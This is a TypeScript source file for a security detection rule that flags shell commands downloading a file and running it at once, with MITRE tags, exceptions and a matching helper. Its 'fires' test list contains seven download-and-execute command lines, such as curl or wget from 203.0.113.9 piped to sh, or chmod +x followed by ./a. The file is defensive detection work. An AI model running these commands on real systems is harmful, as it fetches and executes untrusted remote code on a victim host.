import { commandRule } from "../../command-rule.js";
import { fetchers, intoShell, TEMPORARY } from "../../shell/look.js";
import type { Reading } from "../../shell/reading.js";

/** A file is fetched and run in one go: handed to a shell, or made executable and started. */
export const downloadedThenRun = commandRule({
  id: "downloaded-then-run",
  alertType: "IoT_DownloadFileThenRun",
  name: "Suspicious file download followed by file run activity",
  severity: "Medium",
  about: "A file is fetched and run in one go: handed to a shell, or made executable and started.",
  tactics: ["Execution", "Command and Control"],
  techniques: ["T1105", "T1059.004"],
  falsePositives: [
    "Installers that their vendors offer as `curl … | sh`; allow their hosts by an exception.",
  ],
  witness: ["wget", "curl", "tftp", "ftpget", "fetch", "aria2c"],
  sees: (reading) => intoShell(reading, fetchers) ?? fetchedThenStarted(reading),
  except: [/\bhttps?:\/\/(?:127\.0\.0\.1|localhost|169\.254\.169\.254)[:/]/],
  did: "downloaded a file and ran it",
  because: "it fetches a program and starts it at once",
  fires: [
    "sh -c wget http://203.0.113.9/a; chmod +x a; ./a",
    "bash -c curl -s http://203.0.113.9/i.sh | sh",
    "sh -c cd /tmp && tftp -g -r x 203.0.113.9 && chmod 777 x && ./x",
    "bash -c bash <(curl -fsSL http://203.0.113.9/i.sh)",
    "sh -c (curl -s http://203.0.113.9/i || wget -qO- http://203.0.113.9/i) | bash -s x",
    'sh -c sh -c "$(curl -fsSL http://203.0.113.9/i.sh)"',
    "sh -c wget -q http://203.0.113.9/r.sh -O /tmp/r.sh && sh /tmp/r.sh",
  ],
  silent: [
    "curl -O http://updates.example.net/fw.bin",
    "wget -q http://deb.example.net/key.gpg",
    "curl -fsS http://127.0.0.1:9090/metrics",
    "sh -c curl -s http://127.0.0.1:8080/env.sh | sh",
    "sh -c curl -fsSL https://deb.example.net/key.asc | gpg --dearmor -o /usr/share/keyrings/x.gpg",
    "sh -c curl -s https://api.example.net/v1 | jq .status",
    "sh -c wget https://example.net/v1.tgz && tar xzf v1.tgz && cd v1 && make",
  ],
});

/** A download, and after it a program of that name or a whole folder made executable and started. */
const fetchedThenStarted = ({ commands, urls }: Reading): string | undefined => {
  const fetch = commands.findIndex(({ name }) => fetchers.test(name));
  if (fetch < 0) return undefined;
  const names = new Set([
    ...urls.map(lastPart),
    ...commands.slice(fetch, fetch + 1).flatMap(({ argv }) => argv.slice(1).map(lastPart)),
  ]);
  const later = commands.slice(fetch + 1);
  const isMade = later.some(
    ({ name, argv }) =>
      name === "chmod" && /^(?:[ugoa]*\+\w*x\w*|0?[0-7]*[1357][0-7]{0,2}|777|755)$/.test(argv[1] ?? ""),
  );
  const started = later.find(({ argv: [program = "", script = ""], name }) => {
    const isPlaced =
      program.startsWith("./") ||
      TEMPORARY.test(program) ||
      program.startsWith("/root/") ||
      program.startsWith("/home/");
    const isScript = /^(?:ba|da|a)?sh$/.test(name) && script !== "" && !script.startsWith("-");
    return (
      (isPlaced && (isMade || names.has(lastPart(program)))) || (isScript && names.has(lastPart(script)))
    );
  });
  return started && `${commands[fetch]?.text ?? ""} … ${started.text}`;
};

const lastPart = (path: string): string => path.slice(path.lastIndexOf("/") + 1);
